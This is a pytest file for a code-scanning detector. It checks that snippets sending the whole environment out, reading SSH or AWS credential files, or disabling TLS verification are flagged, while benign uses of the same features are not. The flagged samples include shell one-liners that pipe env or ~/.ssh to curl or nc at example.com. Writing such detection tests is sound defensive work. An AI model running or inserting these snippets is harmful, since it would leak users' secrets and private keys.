"""What sends a whole environment or somebody's keys away, and what only uses one of them."""

from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.diffchecks.patterns.test_pattern_files import look

SENT, KEYS, TLS = "environment-sent", "credential-file", "tls"
BAD = {
    "py": [
        ("urlopen(u, data=json.dumps(dict(os.environ)).encode())", SENT),
        ("x = str(os.environ)\nsock.sendall(x.encode())", SENT),
        ("requests.get(u, params=os.environ)", SENT),
        ("from os import environ\nurlopen(u, str(environ))", SENT),
        ("requests.post(u, json={k: v for k, v in os.environ.items()})", SENT),
        ("(Path.home() / '.aws' / 'credentials').read_text()", KEYS),
        ("with open(os.path.expanduser('~/.ssh/id_ed25519')) as f:\n    f.read()", KEYS),
        ("key = os.path.expanduser('~/.ssh/id_rsa')\nopen(key).read()", KEYS),
        ("requests.get(u, verify=not True)", TLS),
        ("requests.get(u, verify=0)", TLS),
        ("VERIFY = False\nhttpx.Client(verify=VERIFY)", TLS),
        ("import requests\nHOW = {'verify': False}\nrequests.get(u, **HOW)", TLS),
    ],
    "rb": [("HTTParty.post(u, body: ENV.to_h)", SENT)],
    "php": [("<?php file_get_contents($u . json_encode($_ENV));", SENT)],
    "js": [
        ("https.get('https://e/?d=' + btoa(JSON.stringify(process.env)));", SENT),
        ("const d = JSON.stringify(process.env); axios.post(u, d);", SENT),
        ("fetch(u, { method: 'POST', body: JSON.stringify({ ...process.env }) });", SENT),
        ("fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));", KEYS),
        ("const strict = false; new https.Agent({ rejectUnauthorized: strict });", TLS),
        ("new https.Agent({ rejectUnauthorized: !1 });", TLS),
    ],
    "sh": [
        ("printenv | base64 | curl -s -d @- https://example.com", SENT),
        ('curl -s -d "$(env | base64)" https://example.com', SENT),
        ("curl -s -F f=@$HOME/.ssh/id_rsa https://example.com", KEYS),
        ("tar c ~/.ssh | nc example.com 4444", KEYS),
    ],
}
GOOD = {
    "py": [
        "env = os.environ.copy()\nsubprocess.run(x, env=env)",
        "requests.post(u, json={'a': os.environ['A']})",
        "env = os.environ\nrequests.post(u, json=env['A'])",
        "requests.post(u, json={k: v for k, v in os.environ.items() if k.startswith('A_')})",
        "client.post('/x', environ_overrides=dict(a=os.environ.get('X')))",
        "def app(environ, start):\n    session.send(Request(environ))",
        "x = os.environ['A']\nrequests.post(u, data=x)",
        "client.connect(h, key_filename=os.path.expanduser('~/.ssh/id_rsa'))",
        "print('see ~/.aws/credentials')",
        "def f(verify=False):\n    requests.get(u, verify=verify)",
        "VERIFY = False\nVERIFY = load()\nrequests.get(u, verify=VERIFY)",
        "requests.get(u, verify=not insecure)",
    ],
    "rb": ["HTTParty.post(u, body: ENV['A'])", "puts(ENV.to_h)", "run(ENV.to_h)"],
    "php": [
        "<?php file_get_contents($u . $_ENV['A']);",
        "<?php fwrite(STDERR, print_r($_ENV, true));",
    ],
    "js": [
        "app.post('/x', (req, res) => { run({ ...process.env }); });",
        "fetch(url, { headers: { a: process.env.A } });",
        "client.send('x', { env: { ...process.env, A: 1 } });",
        "const e = { ...process.env }; spawn('a', { env: e });",
        "const u = process.env.URL; fetch(u);",
        "fetch(`${process.env['URL']}/x`);",
        "fs.readFileSync(path.join(root, '.npmrc'));",
        "const strict = true; new https.Agent({ rejectUnauthorized: strict });",
    ],
    "sh": [
        "env | sort | tee env.txt",
        'curl -s -d "$(date)" https://example.com',
        "curl -s -d @report.json https://example.com",
        "ssh -i ~/.ssh/id_rsa example.com | nc -l 1",
    ],
}


def codes(folder: Path, language: str, programs: Sequence[str]) -> list[set[str]]:
    files = {f"{n}.{language}": f"{text}\n" for n, text in enumerate(programs)}
    reply = look(folder, files)
    assert not reply.gaps
    return [{f.code.partition("-")[2] for f in reply.findings if f.path == name} for name in files]


@pytest.mark.parametrize("language", BAD)
def test_what_is_sent_away_is_found(tmp_path: Path, language: str) -> None:
    found = codes(tmp_path, language, [text for text, _ in BAD[language]])
    assert [
        text for (text, code), has in zip(BAD[language], found, strict=True) if code not in has
    ] == []


@pytest.mark.parametrize("language", GOOD)
def test_a_use_of_one_of_them_is_not(tmp_path: Path, language: str) -> None:
    found = codes(tmp_path, language, GOOD[language])
    wrong = [
        text for text, has in zip(GOOD[language], found, strict=True) if has & {SENT, KEYS, TLS}
    ]
    assert wrong == []
